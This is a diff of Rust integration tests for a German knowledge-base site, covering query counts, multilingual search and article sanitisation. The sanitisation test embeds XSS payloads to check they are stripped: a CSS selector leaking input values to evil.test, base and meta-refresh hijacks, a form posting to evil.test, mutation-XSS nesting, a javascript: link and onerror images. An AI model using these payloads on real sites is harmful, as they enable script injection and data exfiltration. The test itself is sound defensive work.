@@ -94,13 +94,13 @@ async fn kb_3_an_article_has_contents_related_ones_and_a_page_for_paper() {
         page.says("Verwandte Artikel") && page.says("Mails werden als Spam abgewiesen"),
         "shares a category"
     );
-    assert!(page.queries <= 5, "{} statements", page.queries);
+    assert!(page.queries <= 6, "{} statements", page.queries);
     assert_eq!(
         guest
             .get("/wissen/artikel/fehler-500-502-503")
             .await
             .queries,
-        2
+        3
     );
     let paper = guest
         .get("/wissen/artikel/fehler-500-502-503/drucken")
@@ -373,4 +373,65 @@ async fn kb_6_manuals_stand_on_the_overview_and_beside_results() {
         .await
         .expect(303);
     assert!(!t.guest().get("/wissen").await.says("Server Schäre"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn lesson_35_36_a_hit_stands_once_and_in_the_readers_language() {
+    let t = full().await;
+    // the word of the other language, with a slip: the German article is what the link leads to
+    let page = t
+        .guest()
+        .get("/wissen/suche?suche=Pasword")
+        .await
+        .expect(200);
+    assert!(page.says("Passwort vergessen"), "{}", page.text());
+    assert!(!page.says("Forgot or change"), "{}", page.text());
+    let links = page.links("/wissen/artikel/passwort-vergessen");
+    assert_eq!(links.len(), 1, "translations are one article");
+    let list = t.guest().get("/wissen/alle").await.expect(200);
+    assert_eq!(list.links("/wissen/artikel/passwort-vergessen").len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn abuse_79_81_nothing_written_in_an_article_runs_or_styles() {
+    let t = app().await;
+    let body = "<style>input[value^=a]{background:url(//evil.test/a)}</style>\n\n<base href=//evil.test>\n\n\
+                <meta http-equiv=refresh content=0;url=//evil.test>\n\n<svg><script>alert(1)</script></svg>\n\n\
+                <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n\n<form action=//evil.test><input name=p>\n\n\
+                [hier](javascript:alert(1)) ![Bild](//evil.test/p.png) <img src=x onerror=alert(1)>";
+    import(
+        &t,
+        &[file(
+            "e-mail/boese.de.md",
+            "title: Ein <b>Titel</b>\nsummary: <style>*{}</style>",
+            body,
+        )],
+    )
+    .await;
+    let mut guest = t.guest();
+    for path in [
+        "/wissen/artikel/boese",
+        "/wissen/artikel/boese/drucken",
+        "/wissen/suche?suche=boese+Titel+hier",
+        "/wissen/alle",
+    ] {
+        let page = guest.get(path).await.expect(200);
+        let main = page.html.split_once("<main").unwrap().1;
+        for bad in [
+            "<style",
+            "<base",
+            "<meta",
+            "<svg><script",
+            "<math",
+            "<mglyph",
+            "<img",
+            "<b>Titel",
+            "href=\"javascript",
+            "src=\"//",
+            "<form action=//evil",
+            "<input name=p",
+        ] {
+            assert!(!main.contains(bad), "{path}: {bad} in {main}");
+        }
+    }
 }
